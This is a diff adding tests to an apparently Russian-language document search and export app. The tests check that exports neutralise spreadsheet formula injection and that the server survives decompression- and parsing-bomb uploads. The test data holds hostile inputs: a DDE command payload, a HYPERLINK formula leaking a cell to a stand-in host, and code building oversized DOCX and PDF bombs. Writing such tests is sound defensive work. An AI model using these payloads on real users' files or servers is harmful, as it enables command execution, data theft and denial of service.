@@ -132,6 +132,84 @@ def test_api_export(client):
     assert list(xlsx["Мероприятие"]) == [h["item"]["activity"] for h in hits]
 
 
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid/?leak="&A1, "отчёт")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1, 2)",
+]
+
+
+def test_exports_hold_no_live_formula(client, tmp_path):
+    """OWASP CSV injection: cells from a hostile document never start with = + - @ tab or CR in an export."""
+    rows = "\n".join(
+        f"{n}\tКвиз по финансовой грамотности {n} для школ Калужской области\t{cell}\tмай 2022\t{cell}\t{cell}"
+        for n, cell in enumerate(FORMULAS, start=1)
+    )
+    order = HOSTILE.read_text(encoding="utf-8").split("№\tМероприятие")[0].replace("Тверской", "Калужской")
+    path = tmp_path / "формулы.txt"
+    path.write_text(order + "№\tМероприятие\tОписание\tСроки\tОтветственный\tРезультат\n" + rows, encoding="utf-8")
+    table, _ = client.predict([handle_file(str(path))], api_name="/ingest")
+    assert table["data"][0][1] == "добавлен" and table["data"][0][2] >= len(FORMULAS)
+    query = "квиз по финансовой грамотности для школ Калужской области"
+    _, hits = client.predict(query, "", "", "", "", "", "", "", 10, api_name="/search")
+    hits = [h for h in hits if h["document"]["source"] == "формулы.txt"]
+    assert len(hits) >= len(FORMULAS) and any(h["item"]["description"] == FORMULAS[0] for h in hits)
+
+    import csv
+
+    import openpyxl
+
+    with open(client.predict(hits, api_name="/export_csv"), encoding="utf-8-sig", newline="") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    sheet = openpyxl.load_workbook(client.predict(hits, api_name="/export_xlsx")).active
+    xlsx = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in xlsx if c.data_type == "f"]
+    assert not [c.value for c in xlsx if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@")]
+    assert "'" + FORMULAS[2] in {c.value for c in xlsx}
+
+
+def test_hostile_uploads_fail_fast_and_the_page_stays_responsive(client, server, tmp_path):
+    """Bombs are parsed in the bounded worker, off the server's threads: searches go on meanwhile."""
+    import io
+    import zipfile
+
+    from tests import fuzz
+
+    def docx(edit) -> bytes:
+        base = zipfile.ZipFile(FIXTURES / "roadmap_001.docx")
+        buf = io.BytesIO()
+        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+            for n in base.namelist():
+                z.writestr(n, edit(base.read(n)) if n == "word/document.xml" else base.read(n))
+        return buf.getvalue()
+
+    bombs = {
+        "glyphs.pdf": fuzz.glyph_bomb(),  # ~20 KB, millions of glyphs
+        "span.docx": docx(lambda x: x.replace(b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="2000000000"/>')),
+        "empty.docx": docx(lambda x: x.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 5_000_000, 1)),
+        "runs.txt": ("Приказ\n1\tСеминар " + "«»()*" * 16_000 + "\tмарт 2022\tОтдел образования\n").encode(),
+    }
+    for name, data in bombs.items():
+        (tmp_path / name).write_bytes(data)
+    with ThreadPoolExecutor(max_workers=1) as pool:
+        upload = pool.submit(client.predict, [handle_file(str(tmp_path / n)) for n in bombs], api_name="/ingest")
+        waits = []
+        while not upload.done():
+            start = time.monotonic()
+            client.predict("наставничество", "", "", "", "", "", "", "", 3, api_name="/search")
+            waits.append(time.monotonic() - start)
+        table, _ = upload.result(timeout=600)
+    rows = {r[0]: r for r in table["data"]}
+    assert rows["glyphs.pdf"][1] == "ОШИБКА" and "превышен предел" in rows["glyphs.pdf"][3]
+    assert rows["empty.docx"][1] == "ОШИБКА" and "памяти" in rows["empty.docx"][3]
+    assert rows["span.docx"][1] == rows["runs.txt"][1] == "добавлен"
+    assert waits and max(waits) < 10, waits  # before the worker, one such upload froze the page for minutes
+
+
 def test_api_ingest_reports_each_file(client, server, tmp_path):
     good = tmp_path / "новый приказ.txt"
     good.write_text(HOSTILE.read_text(encoding="utf-8").replace("Тверской", "Тульской"), encoding="utf-8")
